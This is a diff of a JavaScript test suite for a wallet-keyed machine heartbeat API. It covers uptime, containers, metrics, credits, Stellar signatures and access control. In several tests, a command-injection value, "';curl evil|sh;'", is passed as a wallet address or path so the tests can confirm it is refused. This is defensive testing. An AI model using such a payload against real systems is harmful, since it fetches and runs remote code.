@@ -8,7 +8,7 @@ import { setImmediate } from "node:timers/promises";
 import { startStackAuth } from "./fakes/stack-auth.js";
 import { fleet, newAddress, pointers, send } from "./fleet.js";
 import { pages, problem, rowCounts, startWorker } from "./harness.js";
-import { ADMIN_TOKEN, malleated, newWallet, people, production } from "./people.js";
+import { ADMIN_TOKEN, malleated, misspelled, newStellarWallet, newWallet, people, production } from "./people.js";
 
 const stack = await startStackAuth();
 after(() => stack.close());
@@ -46,6 +46,9 @@ async function refused(status, code, body, token, headers) {
   assert.deepEqual(await uptimeRows(), before);
   return told;
 }
+
+/** A container as the routes tell it. */
+const shownContainer = (kept) => ({ cpuPercent: 0, memUsageMb: 0, ...kept, name: kept.containerName });
 
 /** What a machine without a token sends: its wallet's signature, over this body or another. */
 const signed = (wallet, body, over = body) => {
@@ -130,7 +133,7 @@ test("A wallet is the same in upper case, and what is no wallet is refused", asy
   for (const bad of ["';curl evil|sh;'", "", "0x", wallet.slice(2), `${wallet}0`, `0x${"g".repeat(40)}`, ` ${wallet}`, `${wallet}\n`, 1, null, [wallet]]) {
     assert.deepEqual(pointers(await refused(400, undefined, body(Date.now(), { walletAddress: bad }), token)), ["/walletAddress"]);
   }
-  for (const path of ["", "/status", "/uptime", "/containers"]) {
+  for (const path of ["", "/status", "/uptime", "/containers", "/metrics"]) {
     await problem(await call("GET", `/workers/${encodeURIComponent("';curl evil|sh;'")}${path}`, undefined, ADMIN_TOKEN), 400);
     assert.equal((await call("GET", `/workers/${upper}${path}`, undefined, ADMIN_TOKEN)).status, 200);
   }
@@ -160,7 +163,7 @@ test("A megabyte of containers is taken or refused whole", async () => {
   await refused(413, undefined, body(Date.now(), { containers: many(4_500, 220) }), token);
   // What a container has besides is not kept.
   await beat(Date.now(), { containers: many(500, 255).map((each) => ({ ...each, labels: "x".repeat(1_600) })) });
-  assert.deepEqual(await ok(200, "GET", `/workers/${wallet}/containers`, undefined, session), many(500, 255));
+  assert.deepEqual(await ok(200, "GET", `/workers/${wallet}/containers`, undefined, session), many(500, 255).map(shownContainer));
 });
 
 test("In production a beat needs the machine's own token", async () => {
@@ -278,7 +281,7 @@ test("The plan's keys follow in KV, two operations a beat and one a ping", async
   await ok(200, "POST", "/heartbeat/ping", { walletAddress: wallet, timestamp: iso(end) }, token);
   const second = await kept(`${wallet}:time`, ({ endTime }) => endTime === iso(end));
   assert.deepEqual(second, { value: { startTime: iso(start), endTime: iso(end) }, metadata: { s: start, e: end } });
-  assert.deepEqual(await ok(200, "GET", `/workers/${wallet}/containers`, undefined, ADMIN_TOKEN), containers.value);
+  assert.deepEqual(await ok(200, "GET", `/workers/${wallet}/containers`, undefined, ADMIN_TOKEN), containers.value.map(shownContainer));
   const { keys } = await (await worker.worker.getEnv()).WORKER_HEARTBEATS.list({ prefix: wallet });
   assert.deepEqual(keys.map(({ name }) => name), [`${wallet}:containers`, `${wallet}:time`]);
 });
@@ -307,9 +310,134 @@ test("A machine is told of as it last was, to its user and to nobody else", asyn
   const stranger = await signIn();
   assert.deepEqual(await ok(200, "GET", `/workers/${wallet}`, undefined, stranger.token), { exists: false });
   assert.equal((await ok(200, "GET", `/workers/${wallet}/status`, undefined, stranger.token)).status, "UNKNOWN");
-  for (const path of ["/uptime", "/containers"]) await problem(await call("GET", `/workers/${wallet}${path}`, undefined, stranger.token), 404);
+  await problem(await call("GET", `/workers/${wallet}/uptime`, undefined, stranger.token), 404);
+  for (const path of ["/containers", "/metrics"]) assert.deepEqual(await ok(200, "GET", `/workers/${wallet}${path}`, undefined, stranger.token), []);
   assert.deepEqual(await ok(200, "GET", "/workers", undefined, stranger.token), []);
-  for (const path of ["", "/status", "/uptime", "/containers"]) await problem(await call("GET", `/workers/${wallet}${path}`), 401);
+  for (const path of ["", "/status", "/uptime", "/containers", "/metrics"]) await problem(await call("GET", `/workers/${wallet}${path}`), 401);
+});
+
+test("Of one second a ping and a full beat count as one, and the beat tells what runs, once, in either order", async () => {
+  const said = { containers: [{ name: "web", cpuPercent: 1.5, memUsageMb: 20 }], system: { cpuCores: 4, ramTotalGb: 8 }, hostname: "rack-1", tailscaleIp: "100.64.0.7" };
+  const known = async (wallet, session) => {
+    const { hostname, tailscaleIp, cpuCores, ramTotalGb, window: shown } = await ok(200, "GET", `/workers/${wallet}`, undefined, session);
+    const containers = await ok(200, "GET", `/workers/${wallet}/containers`, undefined, session);
+    return { hostname, tailscaleIp, cpuCores, ramTotalGb, window: shown, names: containers.map(({ name }) => name) };
+  };
+  for (const isPingFirst of [true, false]) {
+    const { wallet, token, session, beat } = await newMachine();
+    const ping = (ms) => ok(200, "POST", "/heartbeat/ping", { walletAddress: wallet, timestamp: iso(ms) }, token);
+    const start = Math.floor(Date.now() / 1000) * 1000 - 10 * MINUTE_MS;
+    await ping(start);
+    const at = start + MINUTE_MS;
+    const [first, second] = isPingFirst ? [ping, (ms) => beat(ms, said)] : [(ms) => beat(ms, said), ping];
+    await first(at);
+    const seen = await row("SELECT seen_at, time_mirrored_at FROM worker_windows WHERE wallet = ?", wallet);
+    const told = await second(at);
+    assert.deepEqual([told.stale, told.window], [isPingFirst ? undefined : true, { startTime: iso(start), endTime: iso(at) }]);
+    const expected = { hostname: "rack-1", tailscaleIp: "100.64.0.7", cpuCores: 4, ramTotalGb: 8, window: { startTime: iso(start), endTime: iso(at) }, names: ["web"] };
+    assert.deepEqual(await known(wallet, session), expected);
+    // It is no later sign of life: replayed for hours it would keep a dead machine alive.
+    assert.deepEqual(await row("SELECT seen_at, time_mirrored_at FROM worker_windows WHERE wallet = ?", wallet), seen);
+
+    // Another of that second, and an older one, tell nothing any more.
+    const before = await row("SELECT * FROM worker_windows WHERE wallet = ?", wallet);
+    for (const ms of [at, at - 1000, start]) assert.equal((await beat(ms, { containers: [{ name: "old" }], hostname: "old", system: {} })).stale, true);
+    assert.deepEqual(await row("SELECT * FROM worker_windows WHERE wallet = ?", wallet), before);
+    assert.deepEqual(await records(wallet), []);
+  }
+});
+
+test("Of twenty full beats of the ping's second at once exactly one is taken, whole", async () => {
+  const { wallet, token, session, beat } = await newMachine();
+  const at = Date.now() - MINUTE_MS;
+  await ok(200, "POST", "/heartbeat/ping", { walletAddress: wallet, timestamp: iso(at) }, token);
+  const told = await Promise.all(Array.from({ length: 20 }, (_, n) => beat(at, { containers: [{ name: `c${n}` }], hostname: `h${n}`, system: { cpuCores: n } })));
+  const taken = told.flatMap(({ stale }, n) => (stale ? [] : [n]));
+  assert.equal(taken.length, 1);
+  const { hostname, cpuCores, window: shown } = await ok(200, "GET", `/workers/${wallet}`, undefined, session);
+  assert.deepEqual([hostname, cpuCores, shown], [`h${taken[0]}`, taken[0], { startTime: iso(at), endTime: iso(at) }]);
+});
+
+test("What a machine said is told at one an hour for a day, and the newest as it is", async () => {
+  const { wallet, session, beat, token } = await newMachine();
+  const metrics = (query = "", by = session) => ok(200, "GET", `/workers/${wallet}/metrics${query}`, undefined, by);
+  assert.deepEqual(await metrics(), []);
+  const HOUR_MS = 60 * MINUTE_MS;
+  const hour = Math.floor(Date.now() / HOUR_MS) * HOUR_MS;
+  const at = (hours, minutes) => hour - hours * HOUR_MS + minutes * MINUTE_MS;
+  const system = (cpu) => ({ cpuCores: 8, cpuUsagePercent: cpu, ramTotalGb: 16, ramUsedGb: cpu / 10, storageTotalGb: 100, storageUsedGb: 1 });
+  const told = (ms, cpu, containerCount) => ({ timestamp: iso(ms), cpuUsagePercent: cpu, ramUsedGb: cpu / 10, ramTotalGb: 16, creditsEarned: 0, containerCount });
+  for (const [minutes, cpu] of [[5, 10], [30, 20], [59, 30]]) await beat(at(3, minutes), { system: system(cpu), containers: [{ name: "a" }] });
+  // A ping tells nothing, in whatever hour it comes.
+  await ok(200, "POST", "/heartbeat/ping", { walletAddress: wallet, timestamp: iso(at(2, 20)) }, token);
+  await beat(at(2, 40), { system: system(40), containers: [{ name: "a" }, { name: "b" }] });
+  assert.equal((await row("SELECT count(*) AS n FROM worker_metrics WHERE wallet = ?", wallet)).n, 1);
+  await beat(at(1, 10), { system: { cpuUsagePercent: "a lot", ramUsedGb: null, ramTotalGb: [1] } });
+  const all = [told(at(3, 59), 30, 1), told(at(2, 40), 40, 2), { ...told(at(1, 10), 0, 0), ramTotalGb: 0 }];
+  assert.deepEqual(await metrics(), all);
+  // What is not a number is none in the hours that are over, either.
+  const last = Date.now();
+  await beat(last, { system: system(50) });
+  all.push(told(last, 50, 0));
+  assert.deepEqual(await metrics(), all);
+  assert.deepEqual(await metrics("?hours=24", ADMIN_TOKEN), all);
+  assert.deepEqual(await metrics("?hours=1"), all.filter(({ timestamp }) => Date.parse(timestamp) > last - HOUR_MS));
+  for (const hours of ["0", "25", "-1", "1.5", "x", ""]) await problem(await call("GET", `/workers/${wallet}/metrics?hours=${hours}`, undefined, session), 400);
+  assert.deepEqual(await metrics("", (await signIn()).token), [], "of another's machine");
+
+  // What is a day old is told no longer, and a machine that is silent for a day is swept.
+  await sql("UPDATE worker_windows SET said_at = said_at - ? WHERE wallet = ?", 24 * HOUR_MS, wallet);
+  await sql("UPDATE worker_metrics SET said_at = said_at - ? WHERE wallet = ?", 24 * HOUR_MS, wallet);
+  assert.deepEqual(await metrics(), []);
+  await sql("UPDATE worker_windows SET said_at = said_at - ? WHERE wallet = ?", MINUTE_MS, wallet);
+  await sweep();
+  assert.equal((await row("SELECT count(*) AS n FROM worker_metrics WHERE wallet = ?", wallet)).n, 0);
+});
+
+test("Credits are what the ledger owes the machine, and of nobody else's", async () => {
+  const { wallet, session } = await newMachine();
+  const { wallet: other } = await newMachine();
+  const credits = async () => (await ok(200, "GET", `/workers/${wallet}`, undefined, session)).credits;
+  assert.equal(await credits(), 0);
+  const pay = async (to, amount, from) => {
+    await sql("INSERT INTO payments (user_id, name, amount, creator, created_at) VALUES ('operator', 'Uptime', ?, ?, 1)", amount, to);
+    await sql("INSERT INTO payouts (wallet, period_from, period_to, uptime_seconds, payment_id) SELECT ?, ?, ?, 1, max(id) FROM payments", to, from, from + 1);
+  };
+  await pay(wallet, "1000000000000000000", 1);
+  await pay(wallet, "500", 2);
+  await pay(other, "7", 1);
+  // What somebody paid for that wallet is not what it is owed.
+  await sql("INSERT INTO payments (user_id, name, amount, creator, created_at) VALUES ('x', 'Rent', '9', ?, 1)", wallet);
+  assert.equal(await credits(), 1e18 + 500);
+  await pay(wallet, (2n ** 256n - 1n).toString(), 3);
+  assert.equal(await credits(), 2 ** 256);
+});
+
+test("A Stellar key is a machine's wallet by its path, its beats, its token and its signature, in its own case", async () => {
+  const wallet = newStellarWallet();
+  const { address } = wallet;
+  const beat = JSON.stringify({ walletAddress: address, timestamp: iso(Date.now()), containers: [] });
+  const signature = (over, by = wallet) => ({ "x-wallet-signature": secret(by.sign(`hatch-heartbeat\n${address}\n${JSON.parse(over).timestamp}\n${sha256(over)}`)) });
+  await refused(401, "unauthorized", beat, undefined, signature(beat, newStellarWallet()));
+  await refused(401, "unauthorized", beat, undefined, signature(beat, newWallet()));
+  await refused(401, "unauthorized", `${beat} `, undefined, signature(beat));
+  await ok(200, "POST", "/heartbeat", beat, undefined, signature(beat));
+
+  const { message } = await challenge(wallet);
+  const { walletAddress, token } = await ok(201, "POST", "/workers", { message, signature: secret(wallet.sign(message)) });
+  assert.equal(walletAddress, address);
+  await ok(200, "POST", "/heartbeat/ping", { walletAddress: address, timestamp: iso(Date.now()) }, secret(token));
+  const { token: session } = await signIn(wallet);
+  assert.deepEqual((await ok(200, "GET", "/workers", undefined, session)).map((each) => each.walletAddress), [address]);
+  assert.equal((await ok(200, "GET", `/workers/${address}`, undefined, session)).walletAddress, address);
+  assert.equal((await ok(200, "GET", `/workers/${address}/uptime`, undefined, session)).length, 1);
+
+  for (const bad of misspelled(address)) {
+    for (const path of ["", "/status", "/uptime", "/containers", "/metrics"]) await problem(await call("GET", `/workers/${bad}${path}`, undefined, session), 400);
+    await problem(await call("DELETE", `/workers/${bad}`, undefined, session), 400);
+    assert.deepEqual(pointers(await refused(400, undefined, { ...JSON.parse(beat), walletAddress: bad }, token)), ["/walletAddress"]);
+  }
+  assert.equal((await call("DELETE", `/workers/${address}`, undefined, session)).status, 204);
 });
 
 test("The operator has the list of all machines, page by page", async () => {
@@ -349,21 +477,22 @@ test("Uptime has the records and the open window, newest first, by period and by
   const interval = (from, to, open = false) => ({ timeFrom: iso(start + from * MINUTE_MS), timeTo: iso(start + to * MINUTE_MS), durationSeconds: (to - from) * 60, open });
   const all = [interval(180, 190, true), interval(120, 130), interval(60, 70), interval(0, 10)];
   assert.deepEqual(await uptime(), { list: all, seconds: 2400, link: null });
-  // Recorded by the sweep, the open window still counts once.
+  // Recorded by the sweep, the window still counts once, and is open no longer.
   await sweep();
   assert.equal((await records(wallet)).length, 4);
+  all[0].open = false;
   assert.deepEqual(await uptime(), { list: all, seconds: 2400, link: null });
 
   const listed = [];
   for await (const page of pages(as(session), `/workers/${wallet}/uptime?limit=3`)) listed.push(...page);
   assert.deepEqual(listed, all);
   const period = (from, to) => uptime(`?from=${iso(start + from * MINUTE_MS)}&to=${iso(start + to * MINUTE_MS)}`);
-  assert.deepEqual(await period(65, 185), { list: [interval(180, 185, true), interval(120, 130), interval(65, 70)], seconds: 1200, link: null });
+  assert.deepEqual(await period(65, 185), { list: [interval(180, 185), interval(120, 130), interval(65, 70)], seconds: 1200, link: null });
   assert.deepEqual(await period(20, 50), { list: [], seconds: 0, link: null });
   assert.deepEqual(await period(2, 3), { list: [interval(2, 3)], seconds: 60, link: null });
   const clipped = [];
   for await (const page of pages(as(session), `/workers/${wallet}/uptime?limit=1&from=${iso(start + 65 * MINUTE_MS)}`)) clipped.push(...page);
-  assert.deepEqual(clipped, [interval(180, 190, true), interval(120, 130), interval(65, 70)]);
+  assert.deepEqual(clipped, [interval(180, 190), interval(120, 130), interval(65, 70)]);
   for (const query of ["from=yesterday", "to=1", "from=1969-01-01T00:00:00Z", "from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z", "limit=0"]) {
     await problem(await call("GET", `/workers/${wallet}/uptime?${query}`, undefined, session), 400);
   }
